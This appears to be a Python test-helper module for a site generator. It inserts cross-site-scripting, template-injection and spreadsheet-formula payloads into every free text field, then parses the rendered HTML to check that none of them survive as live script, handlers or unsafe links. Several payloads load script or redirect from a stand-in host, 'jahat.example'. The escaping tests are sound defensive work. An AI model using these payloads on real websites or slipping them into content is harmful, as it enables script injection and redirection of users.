"""Criteria and releases with an attack in every free text, and what a browser makes of pages."""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field, fields, is_dataclass, replace
from html.parser import HTMLParser
from itertools import cycle
from typing import Any
from urllib.parse import urlsplit

from terang.core.model import Text
from terang.releasefile.model import ShownText

CORPUS = (
    "<script>window.terobos=1</script>",
    '"><img src=x onerror="window.terobos=1">',
    "' onmouseover='window.terobos=1' autofocus onfocus='window.terobos=1",
    "</title></style></textarea><svg/onload=window.terobos=1>",
    "</script><script src=//jahat.example/x.js></script>",
    '<iframe srcdoc="<script>parent.terobos=1</script>"></iframe>',
    '<a href="javascript:window.terobos=1">klik</a>',
    "javascript:window.terobos=1",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.terobos=1</x:script>",
    "--><base href=//jahat.example/><!--",
    "{{ 7*7 }}{% raw %}${7*7}{0.__class__}{path}%s%(x)s",
    "&lt;img src=x onerror=window.terobos=1&gt;&#x3c;b&#x3e;",
    "\\u003cscript\\u003ewindow.terobos=1\\u003c/script\\u003e\u2028\u2029",
    '=HYPERLINK("http://jahat.example","x")',
    '<form action=//jahat.example><input name=q formaction="javascript:terobos=1">',
    '<meta http-equiv=refresh content="0;url=//jahat.example">',
    "<style>@import '//jahat.example/x.css'</style><link rel=stylesheet href=//jahat.example>",
)
FREE = ("name", "article")  # free plain texts of the model; an id never is


@dataclass(slots=True)
class Poisoner:
    """Rebuilds a value with one attack of the corpus behind every free text."""

    first: int = 0  # the attack that the first text gets; the others follow in turn
    poisoned_n: int = 0
    attacks: Iterator[str] = field(init=False)

    def __post_init__(self) -> None:
        self.attacks = cycle((*CORPUS[self.first :], *CORPUS[: self.first]))

    def text(self, plain: str) -> str:
        self.poisoned_n += 1
        return f"{plain} {next(self.attacks)}"

    def value(self, old: Any) -> Any:
        match old:
            case Text(id=own, en=english):
                return Text(self.text(own), None if english is None else self.text(english))
            case ShownText(text=own):
                return ShownText(self.text(own))
            case tuple():
                return tuple(self.value(part) for part in old)
            case Mapping():
                return {key: self.value(part) for key, part in old.items()}
        return self._record(old) if is_dataclass(old) else old

    def _record(self, old: Any) -> Any:
        changed = {}
        for part in fields(old):
            own = getattr(old, part.name)
            if isinstance(own, str) and part.name in FREE:
                changed[part.name] = self.text(own)
            elif part.name == "sources" and own and isinstance(own[0], str):
                changed[part.name] = tuple(self.text(address) for address in own)
            else:
                changed[part.name] = self.value(own)
        return replace(old, **changed)


@dataclass(slots=True)
class Seen(HTMLParser):
    """What a document makes a browser do."""

    elements: Counter[str] = field(default_factory=Counter)
    faults: list[str] = field(default_factory=list)
    data_scripts: list[str] = field(default_factory=list)
    texts: list[str] = field(default_factory=list)
    inside_data: bool = False

    def __post_init__(self) -> None:
        HTMLParser.__init__(self)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements[tag] += 1
        given = dict(attrs)
        if tag == "script" and "src" not in given:
            self.inside_data = (given.get("type") or "").endswith("json")
            if self.inside_data:
                self.data_scripts.append("")
            else:
                self.faults.append("inline script")
        self.texts += [value for _, value in attrs if value]
        for name, value in attrs:
            if name.startswith("on") or name in ("srcdoc", "style", "formaction", "autofocus"):
                self.faults.append(f"<{tag} {name}>")
            role = "a" if given.get("rel") in ("canonical", "alternate") else tag
            if name in ("href", "src", "action", "xlink:href") and not is_safe(role, value or ""):
                self.faults.append(f"<{tag} {name}={value}>")

    def handle_data(self, data: str) -> None:
        if self.inside_data:
            self.data_scripts[-1] += data
        else:
            self.texts.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.inside_data = False


def attacks_in(found: Seen) -> frozenset[int]:
    """Which attacks of the corpus a document shows as text, in an attribute or as data."""
    strings = [text for script in found.data_scripts for text in _strings(json.loads(script))]
    whole = "\n".join(" ".join(text.split()) for text in (*found.texts, *strings))
    return frozenset(n for n, attack in enumerate(CORPUS) if " ".join(attack.split()) in whole)


def _strings(value: Any) -> Iterator[str]:
    match value:
        case str():
            yield value
        case list():
            for part in value:
                yield from _strings(part)
        case dict():
            for key, part in value.items():
                yield key
                yield from _strings(part)


def is_safe(tag: str, address: str) -> bool:
    """People may follow links to http, https and mailto; what loads by itself is the site's own."""
    try:
        scheme, host, _, _, _ = urlsplit(address)
    except ValueError:
        return False
    if tag == "a":
        return scheme in ("", "http", "https", "mailto") and (bool(scheme) or not host)
    return not scheme and not host


def seen(document: str) -> Seen:
    """A document as a browser's parser reads it; data in scripts must be JSON."""
    reader = Seen()
    reader.feed(document)
    reader.close()
    for text in reader.data_scripts:
        json.loads(text)
    return reader
